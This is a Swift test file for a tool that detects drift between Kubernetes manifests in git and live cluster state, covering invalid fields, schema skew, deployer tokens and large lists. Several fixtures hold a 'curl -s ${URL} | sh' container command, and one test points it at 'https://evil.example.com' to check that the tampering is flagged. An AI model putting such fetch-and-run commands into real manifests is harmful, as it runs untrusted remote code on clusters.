import Drift
import Resources
import Testing

/// Items 15, 18, 20 and 25 of the checklist: what is wrong or open in git, and what is large.
@Suite struct ChecklistDeclarationTests {
  func drift(_ git: String, _ live: String) throws -> [String] { try Scenario(git: git, live: live).drift() }

  // MARK: 15. Unknown fields and schemas that do not fit: argo-cd#17358 #13585

  @Test("argo-cd diffing.md: a field that the server dropped is a fault of the manifest, and no drift")
  func tellsInvalidDeclarations() throws {
    let git = Manifests.cart.with("          env:", "          imagePullPolcy: Always\n          env:")
    #expect(
      try drift(git, Manifests.cart) == [
        #"invalid-declaration .spec.template.spec.containers[name="app"].imagePullPolcy "Always" → nothing"#
      ])
    // A newer server may know it.
    #expect(try drift(git, git) == [])
  }

  static let ingress = """
    apiVersion: networking.k8s.io/v1
    kind: Ingress
    metadata: { name: cart, namespace: shop }
    spec:
      rules:
        - host: cart.example.com
          http: { paths: [{ path: /, pathType: Prefix, backend: { service: { name: cart, port: { number: 80 } } } }] }
    """

  @Test("argo-cd diffing.md: a dropped field inside of an atomic list does not make the list a change")
  func tellsInvalidItems() throws {
    let git = Self.ingress.with("path: /,", "path: /, rewrite: /api,")
    #expect(
      try drift(git, Self.ingress) == [
        #"invalid-declaration .spec.rules[0].http.paths[0].rewrite "/api" → nothing"#
      ])
    let changed = try Scenario(git: git, live: Self.ingress.with("number: 80", "number: 81")).report()
    #expect(changed.drifts.map { "\($0.class.rawValue) \($0.path)" } == ["runtime-modified .spec.rules"])
  }

  @Test("argo-cd#13585: a definition that prunes a field, and one that keeps it")
  func knowsPruning() throws {
    let git =
      "apiVersion: example.com/v1\nkind: Widget\nmetadata: { name: w, namespace: shop }\nspec: { size: 1, sise: 2 }"
    let live = git.with(", sise: 2", "")
    let closed = "\n---\n" + Manifests.definition("Widget", spec: "size: { type: integer }")
    #expect(try drift(git, live + closed) == ["invalid-declaration .spec.sise 2 → nothing"])
    let open = closed.with(
      "spec: { type: object,", "spec: { type: object, x-kubernetes-preserve-unknown-fields: true,")
    #expect(try drift(git, live + open) == ["runtime-removed .spec.sise 2 → nothing"])
  }

  @Test("argo-cd#17358: an unknown kind or field degrades, and fails nothing")
  func survivesSchemaSkew() throws {
    let git = """
      apiVersion: example.com/v9
      kind: Gadget
      metadata: { name: g, namespace: shop }
      spec: { mode: fast, items: [{ name: a, size: 1 }] }
      """
    #expect(try drift(git, git) == [])
    #expect(
      try drift(git, git.with("mode: fast", "mode: slow")) == [
        #"runtime-modified .spec.mode "fast" → "slow""#
      ])
    let items = try Scenario(git: git, live: git.with("size: 1", "size: 2")).report()
    #expect(items.drifts.map(\.path.description) == [".spec.items"])
    // A field that only a newer server has.
    let live = Manifests.cart.with("          env:", "          futureField: { a: 1 }\n          env:")
    #expect(try drift(Manifests.cart, live).count == 1)
    // A kind of which the snapshot holds nothing is not judged.
    let report = try Scenario(git: git, live: Manifests.service).report()
    #expect(report.drifts.filter { $0.class == .runtimeDeleted }.isEmpty)
    #expect(report.notes.contains { $0.contains("Gadget") })
  }

  // MARK: 18. Renders that differ from themselves

  @Test("helm-controller#643: a plain manifest says the same twice, so a checksum that moved was moved")
  func knowsNoRandomness() throws {
    let git = Manifests.cart.with(
      "    metadata: { labels: { app: cart } }",
      "    metadata: { labels: { app: cart }, annotations: { checksum/config: aaaa } }")
    #expect(try drift(git, git.with("aaaa", "bbbb")).count == 1)
  }

  // MARK: 20. Tokens that a deployer replaces

  static let substitutions: [(git: String, live: String, isDrift: Bool)] = [
    ("value: \"${LEVEL}\"", "value: debug", false),
    ("value: \"https://${DOMAIN}/v1\"", "value: \"https://example.com/v1\"", false),
    ("value: \"${LEVEL:-info}\"", "value: info", false),
    // What stands around the token is no longer there.
    ("value: \"https://${DOMAIN}/v1\"", "value: \"https://example.com/v2\"", true),
    ("value: \"https://${DOMAIN}/v1\"", "value: \"http://example.com/v1\"", true),
    // A token that still stands there was replaced by nobody.
    ("value: \"${A}-${B}\"", "value: \"x-${B}\"", true),
    // A script of the shell.
    ("value: \"echo ${HOME} && run\"", "value: \"echo hacked && run\"", true),
  ]

  @Test(
    "kustomize-token-writeback: a value that a token explains is open, every other one changed",
    arguments: substitutions)
  func knowsTokens(git: String, live: String, isDrift: Bool) throws {
    let git = Manifests.cart.with("value: info", git)
    let live = Manifests.cart.with("value: info", live)
    let scenario = Scenario(git: git, live: live)
    #expect(try scenario.drift().isEmpty != isDrift)
    #expect(try scenario.quiet("LOG_LEVEL").contains { $0.hasPrefix("unresolved") } != isDrift)
    // A person's tool replaces no tokens.
    let path = #"spec.template.spec.containers.{"name":"app"}.env.{"name":"LOG_LEVEL"}.value"#
    #expect(try drift(git, live.written(wrote("kubectl-edit", path))).count == 1)
  }

  @Test("kustomize-token-writeback: tokens of numbers, and inside of lists")
  func knowsTokensOfAnyKind() throws {
    let git = Manifests.cart.with("  selector:", "  replicas: ${COUNT}\n  selector:")
      .with("          env:", "          args: [\"--zone=${ZONE}\", --v=2]\n          env:")
    let live = git.with("${COUNT}", "3").with("${ZONE}", "eu-1")
    #expect(try drift(git, live) == [])
    #expect(
      try Scenario(git: git, live: live.with("--v=2", "--v=9")).report().drifts.map(\.path.description) == [
        #".spec.template.spec.containers[name="app"].args"#
      ])
  }

  static let script = "command: [sh, -c, \"curl -s ${URL} | sh -s ${MODE}\"]"

  @Test("kustomize-token-writeback: a shell script in a command that really changed")
  func findsChangedScripts() throws {
    let git = Manifests.cart.with("          env:", "          \(Self.script)\n          env:")
    #expect(try drift(git, git) == [])
    let changed = git.with("curl -s ${URL} | sh", "curl -sk ${URL} | sh")
    #expect(
      try Scenario(git: git, live: changed).report().drifts.map(\.path.description) == [
        #".spec.template.spec.containers[name="app"].command"#
      ])
    #expect(try drift(git, git.with("${URL}", "https://evil.example.com")).count == 1)
  }

  @Test("kustomize-token-writeback: Flux replaces tokens in scripts as well, and marks what it deploys")
  func knowsFlux() throws {
    let git = Manifests.cart.with("          env:", "          \(Self.script)\n          env:")
    let mark = "labels: { kustomize.toolkit.fluxcd.io/name: shop }"
    let live = git.with("namespace: shop }", "namespace: shop, \(mark) }").with("${URL}", "https://a").with(
      "${MODE}", "x")
    #expect(try drift(git, live) == [])
    #expect(try drift(git, live.with("| sh", "| bash")).count == 1)
    let disabled = live.with(
      "fluxcd.io/name: shop", "fluxcd.io/name: shop, kustomize.toolkit.fluxcd.io/substitute: disabled")
    #expect(try drift(git, disabled).count >= 1)
  }

  // MARK: 25. Scale: argo-cd#3719 #19463

  @Test("argo-cd#3719: a long list is compared, and told by its size alone")
  func comparesLongLists() throws {
    func patches(_ count: Int) -> String {
      let items = (0..<count).map { "{ applyTo: CLUSTER, patch: { n: \($0) } }" }.joined(separator: ", ")
      return
        "apiVersion: networking.istio.io/v1alpha3\nkind: EnvoyFilter\nmetadata: { name: big, namespace: shop }\n"
        + "spec: { configPatches: [\(items)] }"
    }
    #expect(try drift(patches(2000), patches(2000)) == [])
    let report = try Scenario(git: patches(2000), live: patches(1999)).report()
    #expect(report.drifts.map(\.detail) == [["2000 items became 1999"]])
  }
}
